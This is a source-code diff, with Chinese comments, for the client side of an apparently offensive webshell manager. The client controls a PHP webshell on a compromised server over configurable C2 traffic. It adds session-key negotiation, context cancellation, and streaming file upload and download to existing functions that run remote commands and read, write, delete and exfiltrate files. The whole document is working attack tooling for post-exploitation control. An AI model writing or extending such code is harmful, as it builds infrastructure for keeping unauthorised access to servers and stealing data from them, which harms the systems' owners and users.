@@ -5,10 +5,13 @@ import (
 	"caffeine/core"
 	"caffeine/server"
 	"caffeine/server/php"
+	"context"
 	"encoding/base64"
 	"encoding/json"
 	"fmt"
+	"io"
 	"io/ioutil"
+	"os"
 	"path/filepath"
 	"strings"
 	"time"
@@ -21,6 +24,7 @@ type WebClient struct {
 	ID              int64
 	server          server.WebShellServer
 	session         *core.Session             // 当前会话信息
+	config          c2.C2Yaml                 // C2通信配置
 	requestHandler  *c2.RequestHandler        // 请求处理器
 	responseHandler *c2.ResponseHandler       // 响应处理器
 	http            *core.HttpEngine          // HTTP引擎实例
@@ -43,9 +47,10 @@ const (
 // Hook 方法常量定义
 const (
 	// WebShellServer methods
-	HookCheckOnline HookMethod = "CheckOnline"
-	HookGetOsInfo   HookMethod = "GetOsInfo"
-	HookRunCmd      HookMethod = "RunCmd"
+	HookCheckOnline  HookMethod = "CheckOnline"
+	HookGetOsInfo    HookMethod = "GetOsInfo"
+	HookRunCmd       HookMethod = "RunCmd"
+	HookNegotiateKey HookMethod = "NegotiateKey"
 
 	// FileManager methods
 	HookLoadDir     HookMethod = "LoadDir"
@@ -90,6 +95,7 @@ func NewWebClient(target core.Target, config c2.C2Yaml) *WebClient {
 		ID:              core.GenerateID(),
 		session:         session,
 		server:          php.NewPHPWebShell(),
+		config:          config,
 		requestHandler:  c2.NewRequestHandler(config),
 		responseHandler: c2.NewResponseHandler(config),
 		http:            core.GetHttpEngine(),
@@ -122,18 +128,23 @@ func (client *WebClient) GetPHPClient() *php.PHPWebshell {
 // methodName: 调用的方法名
 // data: 请求数据
 // 返回: 服务器响应数据
-func (client *WebClient) request(methodName HookMethod, data []byte) []byte {
+func (client *WebClient) request(ctx context.Context, methodName HookMethod, data []byte) []byte {
 	// 应用 hooks
 	data = client.processHooks(methodName, data)
 
-	req, err := client.requestHandler.Handler(client.session, data)
+	req, err := client.requestHandler.HandlerContext(ctx, client.session, data)
 	if err != nil {
 		client.errorChan <- fmt.Errorf("%s handle request error: %v", methodName, err)
 		return nil
 	}
+	req.Operation = string(methodName)
 	err = client.http.ExecuteRequest(req)
 	if err != nil {
-		client.errorChan <- fmt.Errorf("%s execute request error: %v", methodName, err)
+		// 主动取消不视为错误
+		if ctx.Err() == nil {
+			client.errorChan <- fmt.Errorf("%s execute request error: %v", methodName, err)
+		}
+		return nil
 	}
 	response, err := client.responseHandler.Handler(client.session, req.Response)
 	client.logger.Debugf("receive data: %s", string(response))
@@ -141,24 +152,45 @@ func (client *WebClient) request(methodName HookMethod, data []byte) []byte {
 		client.errorChan <- fmt.Errorf("%s handle response error: %v", methodName, err)
 		return nil
 	}
+	client.http.RecordResponsePlaintext(req, response)
 	return response
 }
 
 // Webshell 检测是否在线
 func (client *WebClient) CheckConnect() bool {
+	return client.CheckConnectContext(context.Background())
+}
+
+// CheckConnectContext 同 CheckConnect，ctx 取消后中止正在进行的请求
+func (client *WebClient) CheckConnectContext(ctx context.Context) bool {
 	//phpClient := client.GetPHPClient()
 	check := client.server.CheckOnline()
-	response := client.request(HookCheckOnline, check)
+	response := client.request(ctx, HookCheckOnline, check)
 	if response == nil {
 		return false
 	}
 	//添加历史记录
-	client.session.AddOperateHistory(core.GetCallerName(), nil)
-	return string(response) == "hello"
+	client.addOperateHistory(nil)
+	if string(response) != "hello" {
+		return false
+	}
+	// 按配置协商会话密钥，之后的请求使用会话密钥
+	if client.config.Key.Exchange != "" && client.session.SessionKey == nil {
+		if err := client.negotiateSessionKey(ctx); err != nil {
+			client.errorChan <- fmt.Errorf("%s negotiate session key error: %v", HookNegotiateKey, err)
+			return false
+		}
+	}
+	return true
 }
 
 // WebShell 初次进入，获取系统信息
 func (client *WebClient) GetSystemInfo() {
+	client.GetSystemInfoContext(context.Background())
+}
+
+// GetSystemInfoContext 同 GetSystemInfo，ctx 取消后中止正在进行的请求
+func (client *WebClient) GetSystemInfoContext(ctx context.Context) {
 	// 首先检查缓存
 	//cacheManager := core.GetCacheManager()
 	//if cachedInfo, err := cacheManager.GetSystemInfo(client.ID); err == nil {
@@ -170,7 +202,7 @@ func (client *WebClient) GetSystemInfo() {
 
 	// 缓存未命中，从服务器获取信息
 	info := client.server.GetOsInfo()
-	response := client.request(HookGetOsInfo, info)
+	response := client.request(ctx, HookGetOsInfo, info)
 	if response == nil {
 		return
 	}
@@ -191,7 +223,12 @@ func (client *WebClient) GetSystemInfo() {
 	// 更新会话信息
 	client.session.Info = &systemInfo
 	client.session.FileSystem = core.NewFileSystem(systemInfo.CurrentDir)
-	client.session.AddOperateHistory(core.GetCallerName(), nil)
+	client.addOperateHistory(nil)
+}
+
+// addOperateHistory 以调用方法名记录操作，XxxContext 与 Xxx 记为同一操作
+func (client *WebClient) addOperateHistory(args []string) {
+	client.session.AddOperateHistory(strings.TrimSuffix(core.GetSimpleFuncName(2), "Context"), args)
 }
 
 func (client *WebClient) GetSession() *core.Session {
@@ -204,21 +241,31 @@ func (client *WebClient) GetFileSystem() *core.FileSystemCache {
 
 // webshell 执行命令
 func (client *WebClient) RunCMD(path, cmd string) string {
+	return client.RunCMDContext(context.Background(), path, cmd)
+}
+
+// RunCMDContext 同 RunCMD，ctx 取消后中止正在进行的请求
+func (client *WebClient) RunCMDContext(ctx context.Context, path, cmd string) string {
 	if path == CurrentDir {
 		//获取当前目录
 		path = client.session.GetCurrentDir()
 	}
 	runCmd := client.server.RunCmd(path, cmd)
-	response := client.request(HookRunCmd, runCmd)
+	response := client.request(ctx, HookRunCmd, runCmd)
 	if response == nil {
 		return ""
 	}
-	client.session.AddOperateHistory(core.GetCallerName(), []string{path, cmd})
+	client.addOperateHistory([]string{path, cmd})
 	return string(response)
 }
 
 // 加载目录
 func (client *WebClient) LoadDir(path string) *core.Directory {
+	return client.LoadDirContext(context.Background(), path)
+}
+
+// LoadDirContext 同 LoadDir，ctx 取消后中止正在进行的请求
+func (client *WebClient) LoadDirContext(ctx context.Context, path string) *core.Directory {
 	if path == CurrentDir {
 		path = client.session.GetCurrentDir()
 	}
@@ -231,7 +278,7 @@ func (client *WebClient) LoadDir(path string) *core.Directory {
 	//}
 
 	LoadData := client.server.LoadDir(path)
-	response := client.request(HookLoadDir, LoadData)
+	response := client.request(ctx, HookLoadDir, LoadData)
 	if response == nil {
 		return nil
 	}
@@ -246,37 +293,52 @@ func (client *WebClient) LoadDir(path string) *core.Directory {
 	//cacheManager.SaveDirectory(&dir)
 
 	client.session.FileSystem.CacheLoadedDir(&dir)
-	client.session.AddOperateHistory(core.GetCallerName(), []string{path})
+	client.addOperateHistory([]string{path})
 	return &dir
 }
 
 // 读取文件
 func (client *WebClient) ReadFile(file *core.FileInfo) string {
+	return client.ReadFileContext(context.Background(), file)
+}
+
+// ReadFileContext 同 ReadFile，ctx 取消后中止正在进行的请求
+func (client *WebClient) ReadFileContext(ctx context.Context, file *core.FileInfo) string {
 	readFile := client.server.ReadFile(file)
-	response := client.request(HookReadFile, readFile)
+	response := client.request(ctx, HookReadFile, readFile)
 	if response == nil {
 		return ""
 	}
 	file.Content = string(response)
-	client.session.AddOperateHistory(core.GetCallerName(), []string{file.FilePath})
+	client.addOperateHistory([]string{file.FilePath})
 	return string(response)
 }
 
 // 写入文件
 func (client *WebClient) WriteFile(file *core.FileInfo, content string) bool {
+	return client.WriteFileContext(context.Background(), file, content)
+}
+
+// WriteFileContext 同 WriteFile，ctx 取消后中止正在进行的请求
+func (client *WebClient) WriteFileContext(ctx context.Context, file *core.FileInfo, content string) bool {
 	writeFile := client.server.WriteFile(file, content)
-	response := client.request(HookWriteFile, writeFile)
+	response := client.request(ctx, HookWriteFile, writeFile)
 	if response == nil {
 		return false
 	}
-	client.session.AddOperateHistory(core.GetCallerName(), []string{file.FilePath, content})
+	client.addOperateHistory([]string{file.FilePath, content})
 	return string(response) == Success
 }
 
 // 删除文件
 func (client *WebClient) DeleteFile(file *core.FileInfo) bool {
+	return client.DeleteFileContext(context.Background(), file)
+}
+
+// DeleteFileContext 同 DeleteFile，ctx 取消后中止正在进行的请求
+func (client *WebClient) DeleteFileContext(ctx context.Context, file *core.FileInfo) bool {
 	deleteData := client.server.Delete(file.FilePath)
-	response := client.request(HookDelete, deleteData)
+	response := client.request(ctx, HookDelete, deleteData)
 	if response == nil {
 		return false
 	}
@@ -287,7 +349,7 @@ func (client *WebClient) DeleteFile(file *core.FileInfo) bool {
 				directory.Files = append(directory.Files[:i], directory.Files[i+1:]...)
 			}
 		}
-		client.session.AddOperateHistory(core.GetCallerName(), []string{file.FilePath})
+		client.addOperateHistory([]string{file.FilePath})
 		return true
 	}
 	return false
@@ -295,14 +357,19 @@ func (client *WebClient) DeleteFile(file *core.FileInfo) bool {
 
 // 删除目录
 func (client *WebClient) DeleteDir(dir *core.Directory) bool {
+	return client.DeleteDirContext(context.Background(), dir)
+}
+
+// DeleteDirContext 同 DeleteDir，ctx 取消后中止正在进行的请求
+func (client *WebClient) DeleteDirContext(ctx context.Context, dir *core.Directory) bool {
 	deleteData := client.server.Delete(dir.Path)
-	response := client.request(HookDelete, deleteData)
+	response := client.request(ctx, HookDelete, deleteData)
 	if response == nil {
 		return false
 	}
 	if string(response) == Success {
 		client.session.FileSystem.RemoveDir(dir)
-		client.session.AddOperateHistory(core.GetCallerName(), []string{dir.Path})
+		client.addOperateHistory([]string{dir.Path})
 		return true
 	}
 	return false
@@ -310,9 +377,14 @@ func (client *WebClient) DeleteDir(dir *core.Directory) bool {
 
 // 创建文件
 func (client *WebClient) MakeFile(directory *core.Directory, fileName string) *core.FileInfo {
+	return client.MakeFileContext(context.Background(), directory, fileName)
+}
+
+// MakeFileContext 同 MakeFile，ctx 取消后中止正在进行的请求
+func (client *WebClient) MakeFileContext(ctx context.Context, directory *core.Directory, fileName string) *core.FileInfo {
 	filePath := directory.Path + "/" + fileName
 	makeFile := client.server.MakeFile(filePath)
-	response := client.request(HookMakeFile, makeFile)
+	response := client.request(ctx, HookMakeFile, makeFile)
 	if response == nil {
 		return nil
 	}
@@ -326,7 +398,7 @@ func (client *WebClient) MakeFile(directory *core.Directory, fileName string) *c
 			FilePath:     filePath,
 		}
 		directory.Files = append(directory.Files, file)
-		client.session.AddOperateHistory(core.GetCallerName(), []string{filePath})
+		client.addOperateHistory([]string{filePath})
 		return file
 	}
 	return nil
@@ -334,9 +406,14 @@ func (client *WebClient) MakeFile(directory *core.Directory, fileName string) *c
 
 // 创建目录
 func (client *WebClient) MakeDir(directory *core.Directory, dirName string) *core.Directory {
+	return client.MakeDirContext(context.Background(), directory, dirName)
+}
+
+// MakeDirContext 同 MakeDir，ctx 取消后中止正在进行的请求
+func (client *WebClient) MakeDirContext(ctx context.Context, directory *core.Directory, dirName string) *core.Directory {
 	dirPath := directory.Path + "/" + dirName
 	makeDir := client.server.MakeDir(dirPath)
-	response := client.request(HookMakeDir, makeDir)
+	response := client.request(ctx, HookMakeDir, makeDir)
 	if response == nil {
 		return nil
 	}
@@ -351,7 +428,7 @@ func (client *WebClient) MakeDir(directory *core.Directory, dirName string) *cor
 		}
 		directory.SubDirectories = append(directory.SubDirectories, dir)
 		client.session.FileSystem.CacheLoadedDir(dir)
-		client.session.AddOperateHistory(core.GetCallerName(), []string{dirPath})
+		client.addOperateHistory([]string{dirPath})
 		return dir
 	}
 	return nil
@@ -360,68 +437,78 @@ func (client *WebClient) MakeDir(directory *core.Directory, dirName string) *cor
 // UploadFile 实现文件上传功能
 // localPath: 本地文件路径
 // remotePath: 远程文件路径
-// 支持大文件分块上传
+// 文件以流的方式编码发送，大文件分块上传，内存占用与文件大小无关
 func (client *WebClient) UploadFile(localPath string, remotePath string) error {
-	// 读取本地文件
-	data, err := ioutil.ReadFile(localPath)
+	return client.UploadFileContext(context.Background(), localPath, remotePath)
+}
+
+// UploadFileContext 同 UploadFile，ctx 取消后中止正在进行的请求
+func (client *WebClient) UploadFileContext(ctx context.Context, localPath string, remotePath string) error {
+	file, err := os.Open(localPath)
+	if err != nil {
+		return fmt.Errorf("failed to read local file: %v", err)
+	}
+	defer file.Close()
+	info, err := file.Stat()
 	if err != nil {
 		return fmt.Errorf("failed to read local file: %v", err)
 	}
 
 	// 根据文件大小决定上传方式
-	if len(data) <= UploadSizeThreshold {
+	totalSize := info.Size()
+	if totalSize <= UploadSizeThreshold {
 		// 小文件：直接上传
-		encodedData := base64.StdEncoding.EncodeToString(data)
-		uploadData := client.server.Upload(remotePath, encodedData)
-		response := client.request(HookUpload, uploadData)
-
-		if response == nil {
-			return fmt.Errorf("upload failed")
+		uploadData := client.server.Upload(remotePath, uploadDataPlaceholder)
+		response, err := client.uploadStream(ctx, HookUpload, uploadData, file)
+		if err != nil {
+			return fmt.Errorf("upload failed: %v", err)
 		}
-		if string(response) != Success {
-			return fmt.Errorf("upload error: %s", string(response))
+		if response != Success {
+			return fmt.Errorf("upload error: %s", response)
 		}
 	} else {
 		// 大文件：分块上传
-		totalSize := len(data)
-		chunksCount := (totalSize + DefaultChunkSize - 1) / DefaultChunkSize
+		chunksCount := int((totalSize + DefaultChunkSize - 1) / DefaultChunkSize)
 
 		for i := 0; i < chunksCount; i++ {
-			start := i * DefaultChunkSize
-			end := start + DefaultChunkSize
-			if end > totalSize {
-				end = totalSize
-			}
-
-			chunk := data[start:end]
-			encodedChunk := base64.StdEncoding.EncodeToString(chunk)
-
-			uploadData := client.server.UploadChunk(remotePath, encodedChunk, i, chunksCount)
-			response := client.request(HookUploadChunk, uploadData)
-
-			if response == nil {
-				return fmt.Errorf("upload failed at chunk %d", i)
+			chunk := io.NewSectionReader(file, int64(i)*DefaultChunkSize, DefaultChunkSize)
+			uploadData := client.server.UploadChunk(remotePath, uploadDataPlaceholder, i, chunksCount)
+			response, err := client.uploadStream(ctx, HookUploadChunk, uploadData, chunk)
+			if err != nil {
+				return fmt.Errorf("upload failed at chunk %d: %v", i, err)
 			}
 
-			responseStr := string(response)
-			if !strings.Contains(responseStr, "ok") && !strings.Contains(responseStr, "chunk_ok") {
-				return fmt.Errorf("upload error at chunk %d: %s", i, responseStr)
+			if !strings.Contains(response, "ok") && !strings.Contains(response, "chunk_ok") {
+				return fmt.Errorf("upload error at chunk %d: %s", i, response)
 			}
 		}
 	}
 
-	client.session.AddOperateHistory(core.GetCallerName(), []string{localPath, remotePath})
+	client.addOperateHistory([]string{localPath, remotePath})
 	return nil
 }
 
 // DownloadFile 实现文件下载功能
 // remotePath: 远程文件路径
 // localPath: 本地保存路径
-// 以文件读取的方式读取
+// webshell 支持流式下载时边接收边解码写入文件，否则以文件读取的方式读取
 func (client *WebClient) DownloadFile(remotePath string, localPath string) error {
+	return client.DownloadFileContext(context.Background(), remotePath, localPath)
+}
+
+// DownloadFileContext 同 DownloadFile，ctx 取消后中止正在进行的请求
+func (client *WebClient) DownloadFileContext(ctx context.Context, remotePath string, localPath string) error {
+	if downloader, ok := client.server.(server.StreamDownloader); ok {
+		if err := client.downloadStream(ctx, downloader, remotePath, localPath); err != nil {
+			return err
+		}
+		client.addOperateHistory([]string{remotePath, localPath})
+		return nil
+	}
+
 	// 先获取文件信息
 	downloadData := client.server.Download(remotePath)
-	response := client.request(HookDownload, downloadData)
+	response := client.request(ctx, HookDownload, downloadData)
 	if response == nil {
 		return fmt.Errorf("download failed")
 	}
@@ -451,7 +538,7 @@ func (client *WebClient) DownloadFile(remotePath string, localPath string) error
 		return fmt.Errorf("failed to write file: %v", err)
 	}
 
-	client.session.AddOperateHistory(core.GetCallerName(), []string{remotePath, localPath})
+	client.addOperateHistory([]string{remotePath, localPath})
 	return nil
 }
 